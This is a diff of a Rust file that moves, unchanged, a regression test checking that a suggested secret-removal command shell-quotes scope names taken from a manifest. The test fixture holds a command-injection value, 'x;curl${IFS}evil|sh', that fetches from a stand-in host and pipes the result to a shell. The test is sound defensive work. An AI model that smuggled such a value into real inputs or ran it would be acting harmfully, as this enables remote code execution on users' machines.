@@ -256,22 +256,6 @@ fn shell_word(word: &str) -> String {
     }
 }
 
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    /// A hostile manifest's scope (any RFC 6749 scope token) went into the
-    /// suggested command as it was: pasted, it ran its own command.
-    #[test]
-    fn the_remove_command_quotes_what_a_manifest_named() {
-        let key = AccountKey::new("github", "gh", ["repo", "x;curl${IFS}evil|sh", "it's"]);
-        assert_eq!(
-            remove_command(&key),
-            r"warden secret rm github gh --scope 'it'\''s' --scope repo --scope 'x;curl${IFS}evil|sh'"
-        );
-    }
-}
-
 fn declared(package: &Package, vendor: &str, handle: &str) -> Option<DeclaredCredential> {
     let mcp = match &package.implementation {
         Implementation::Mcp(server) => server.credentials.as_slice(),
@@ -297,4 +281,20 @@ fn declared(package: &Package, vendor: &str, handle: &str) -> Option<DeclaredCre
         audiences: audiences.into_iter().collect(),
         scopes: scopes.into_iter().collect(),
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// A hostile manifest's scope (any RFC 6749 scope token) went into the
+    /// suggested command as it was: pasted, it ran its own command.
+    #[test]
+    fn the_remove_command_quotes_what_a_manifest_named() {
+        let key = AccountKey::new("github", "gh", ["repo", "x;curl${IFS}evil|sh", "it's"]);
+        assert_eq!(
+            remove_command(&key),
+            r"warden secret rm github gh --scope 'it'\''s' --scope repo --scope 'x;curl${IFS}evil|sh'"
+        );
+    }
 }
